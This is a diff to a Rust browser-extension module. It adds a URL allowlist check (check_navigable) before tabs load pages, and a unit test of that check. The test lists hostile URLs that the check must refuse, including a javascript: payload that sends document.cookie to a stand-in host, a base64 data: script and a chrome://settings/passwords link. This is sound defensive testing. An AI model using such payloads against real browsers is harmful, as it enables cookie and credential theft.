@@ -1,11 +1,15 @@
 //! Loading a URL in a tab and waiting for a tab's top-frame loads: what navigation (`tabs`) and
 //! the actions that wait for the navigation they start (`act`) share.
 //!
+//! Every URL a tab is pointed at or opened with passes [`check_navigable`] first: `load_url`
+//! calls it, and so does opening a tab or window (`tabs::create`).
+//!
 //! Loads are seen through `activity`, which counts every top-frame load a tab starts and the
 //! state each reached; a caller notes the count (`activity::load_mark`) before it acts and
 //! compares afterwards.
 
 use serde_json::json;
+use tabwire_protocol::tabs::check_navigable_url;
 use tabwire_protocol::{ErrorCode, OpError, TabId, WaitUntil};
 
 use crate::activity;
@@ -18,8 +22,25 @@ use crate::timer::{Either, select, sleep};
 /// started: Chrome reports it at once; a step within one document never starts one.
 pub const LOAD_START_MS: f64 = 1000.0;
 
-/// Points the tab at `url` (`chrome.tabs.update`), passing the checkpoint just before.
+/// Refuses, with `INVALID_ARGUMENT`, a URL that no tab may be pointed at: anything but
+/// `http(s)://`, `file://` and `about:blank` (the protocol's rule, the one the hub applies).
+///
+/// The hub has checked the URL already; checking again here is what keeps a hub that is not
+/// the one the user trusts (or a buggy one) from running `javascript:` in a logged-in page,
+/// opening a `data:` page, or reaching browser and extension pages through this extension.
+pub fn check_navigable(url: &str) -> Result<(), OpError> {
+    check_navigable_url(url).map_err(|refused| {
+        OpError::new(
+            ErrorCode::InvalidArgument,
+            format!("The extension will not open this URL: {refused}."),
+        )
+    })
+}
+
+/// Points the tab at `url` (`chrome.tabs.update`) once [`check_navigable`] accepts it, passing
+/// the checkpoint just before.
 pub async fn load_url(tab: TabId, url: &str, checkpoint: &Checkpoint) -> Result<(), OpError> {
+    check_navigable(url)?;
     let properties = chrome::to_js(&json!({ "url": url })).map_err(OpError::from)?;
     checkpoint.check()?;
     chrome::call(chrome::tabs_update(tab, &properties))
@@ -71,4 +92,43 @@ pub async fn settle(
         loaded(tab, until, checkpoint).await?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_web_pages_files_and_the_blank_page_are_opened() {
+        for ok in [
+            "https://example.com/",
+            "http://127.0.0.1:8080/a",
+            "file:///tmp/a.html",
+            "about:blank",
+        ] {
+            assert_eq!(check_navigable(ok), Ok(()), "{ok}");
+        }
+        // What a hub that is not the one the user trusts might send, each one the hub itself
+        // would refuse.
+        for hostile in [
+            "javascript:fetch('https://evil.example/?c='+document.cookie)",
+            "JAVASCRIPT:alert(1)",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "chrome://settings/passwords",
+            "chrome-extension://hjpjigandemmiglamagndeppmlncdhag/popup.html",
+            "view-source:https://bank.example/",
+            "about:settings",
+            "\u{1}javascript:alert(1)",
+        ] {
+            let refused = check_navigable(hostile).unwrap_err();
+            assert_eq!(refused.code, ErrorCode::InvalidArgument, "{hostile:?}");
+            assert!(
+                refused
+                    .message
+                    .starts_with("The extension will not open this URL: url must be an absolute"),
+                "{}",
+                refused.message
+            );
+        }
+    }
 }
